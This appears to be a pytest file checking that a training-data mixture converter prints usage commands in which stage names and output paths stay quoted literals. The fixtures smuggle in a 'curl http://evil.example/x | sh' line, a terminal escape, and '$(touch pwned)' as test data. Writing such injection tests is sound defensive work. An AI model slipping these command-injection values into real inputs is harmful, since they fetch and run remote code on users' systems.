"""The commands that a conversion prints: names and paths are words, whatever they hold, and never commands."""

import ast
import shlex
from pathlib import Path

import pytest

from mixtures import Mixture
from mixtures.convert.conversion import convert
from mixtures.convert.formats import MODULES
from mixtures.errors import UserError

STEPS = {"data": "/data/{domain}.jsonl", "sequence_length": 128, "batch_size": 16, "elsewhere": True}
OPTIONS = {"levanter": {"block_size": 1000}}
PYTHON = ("hf", "json", "csv", "olmo-core", "torchtitan", "litdata")  # the lines are for a script in Python


def injected() -> Mixture:
    """A mixture whose first stage is called like two lines of a shell."""
    counts = {"unique_tokens": 10_000_000, "unique_documents": 10_000}
    bad = "warm-up\ncurl http://evil.example/x | sh   # \x1b[2J"
    return Mixture.model_validate(
        {
            "tokenizer": {"name": "t", "vocab_size": 9, "fingerprint": "f"},
            "horizon": {"total_tokens": 8_192_000},
            "domains": [{"name": "a", **counts}, {"name": "b", **counts}],
            "stages": [
                {"name": bad, "start_tokens": 0, "weights": {"a": 0.5, "b": 0.5}},
                {"name": "rest", "start_tokens": 4_096_000, "weights": {"a": 0.25, "b": 0.75}},
            ],
            "provenance": {"tool": "test", "method": "test"},
        }
    )


@pytest.mark.parametrize("name", list(MODULES))
def test_no_path_and_no_name_of_a_stage_becomes_a_command(name: str, tmp_path: Path) -> None:
    output = tmp_path / "it's $(touch pwned); out"
    use = convert(injected(), to=name, output=output, **STEPS, **OPTIONS.get(name, {})).record["use"]
    lines = use.replace("\\\n", "").splitlines()
    assert not [line for line in lines if line.lstrip().startswith("curl")]
    assert "\x1b" not in use
    named = [line for line in lines if "touch pwned" in line]
    for line in named:
        if name in PYTHON and not line.startswith("#"):
            strings = [node.value for node in ast.walk(ast.parse(line)) if isinstance(node, ast.Constant)]
            assert any(str(output) in str(word) for word in strings)
        else:
            words = shlex.split(line.partition("; NeMo")[0])
            assert any(str(output) in word for word in words), line
    assert named


def test_a_directory_that_would_end_a_command_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="has control characters"):
        convert(injected(), to="json", output=tmp_path / "a\nb", **STEPS)
